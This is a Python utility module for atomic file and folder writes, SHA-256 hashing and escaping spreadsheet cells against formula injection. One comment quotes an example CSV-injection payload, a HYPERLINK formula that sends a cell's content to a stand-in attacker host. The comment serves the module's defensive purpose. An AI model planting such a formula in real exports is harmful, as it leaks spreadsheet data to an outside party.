"""The one way this project writes a file: whole or not at all.

Every writer puts its bytes in a temp file beside the target and renames it over the target only
when everything was written, so a crash, a full disk or a bad record half-way leaves the old file
as it was. A folder of outputs (an eval run, a trained model) is built in a scratch folder and
renamed into place the same way.

    write_atomic(Path("data/users.json"), text, mode=0o600)
    with atomic_open(Path("answers.jsonl")) as handle:   # for writers that stream
        handle.write(line)
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import tempfile
from contextlib import contextmanager
from pathlib import Path
from typing import IO, Iterator


@contextmanager
def atomic_path(path: Path | str) -> Iterator[Path]:
    """A temp path beside `path` to write to; renamed over `path` when the block ends normally,
    deleted when it raises. For writers that take a file name (images, GGUF files)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    os.close(fd)
    tmp = Path(name)
    try:
        yield tmp
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)


@contextmanager
def atomic_open(path: Path | str, mode: int | None = None, newline: str | None = None
                ) -> Iterator[IO[str]]:
    """A text handle whose content replaces `path` only if the block ends normally.
    `mode` sets the permissions before any byte is written (0o600 for password hashes)."""
    with atomic_path(path) as tmp:
        if mode is not None:
            os.chmod(tmp, mode)
        with open(tmp, "w", encoding="utf-8", newline=newline) as handle:
            yield handle


def write_atomic(path: Path | str, data: str | bytes, mode: int | None = None) -> None:
    """Write text (UTF-8) or bytes to `path` whole or not at all."""
    with atomic_path(path) as tmp:
        if mode is not None:
            os.chmod(tmp, mode)
        if isinstance(data, bytes):
            tmp.write_bytes(data)
        else:
            tmp.write_text(data, encoding="utf-8")


def write_all_atomic(folder: Path | str, files: dict[str, str]) -> None:
    """Several files in one folder: every one written to a temp name first, then all renamed, so
    a failure while writing leaves the old set whole."""
    folder = Path(folder)
    created = not folder.exists()
    folder.mkdir(parents=True, exist_ok=True)
    temps = {name: folder / f".{name}.{os.getpid()}.tmp" for name in files}
    try:
        for name, text in files.items():
            temps[name].write_text(text, encoding="utf-8")
        for name, tmp in temps.items():
            os.replace(tmp, folder / name)
    except BaseException:
        if created:  # a folder this call made for files it could not write
            shutil.rmtree(folder, ignore_errors=True)
        raise
    finally:
        for tmp in temps.values():
            tmp.unlink(missing_ok=True)


@contextmanager
def atomic_folder(final: Path | str, replace: bool = False) -> Iterator[Path]:
    """A scratch folder beside `final`, renamed to `final` when the block ends normally.
    With `replace`, an existing `final` is replaced (a retrained model of the same name); it is
    put back if the new one cannot be moved in."""
    final = Path(final)
    final.parent.mkdir(parents=True, exist_ok=True)
    scratch = Path(tempfile.mkdtemp(prefix=f".{final.name}-", dir=final.parent))
    old = final.with_name(f".{final.name}-replaced-{os.getpid()}")
    try:
        yield scratch
        if replace and final.exists():
            os.replace(final, old)  # kept until the new one is in place
        try:
            os.replace(scratch, final)
        except OSError:
            if old.exists():
                os.replace(old, final)
            raise
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        shutil.rmtree(old, ignore_errors=True)


# --- cells a spreadsheet opens ----------------------------------------------------------------

# A cell starting with one of these runs as a formula in a spreadsheet (OWASP "CSV injection"):
# `=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")` in a product name would.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def spreadsheet_cell(value: object) -> object:
    """`value` safe to open in a spreadsheet: text starting like a formula (or with the quote
    this adds) gets a leading `'`, which shows as text; a plain number ("-0.035") is left alone.
    `from_spreadsheet_cell` undoes it exactly."""
    if isinstance(value, str) and value and (value[0] in _FORMULA_START or value[0] == "'") \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def from_spreadsheet_cell(text: str) -> str:
    """The text `spreadsheet_cell` was given: one leading `'` dropped where it added one."""
    if text[:1] == "'" and len(text) > 1 and (text[1] in _FORMULA_START or text[1] == "'"):
        return text[1:]
    return text


def sha256_file(path: Path | str) -> str:
    """The file's SHA-256, read in 1 MB blocks (model weights are hundreds of megabytes)."""
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        for block in iter(lambda: handle.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()
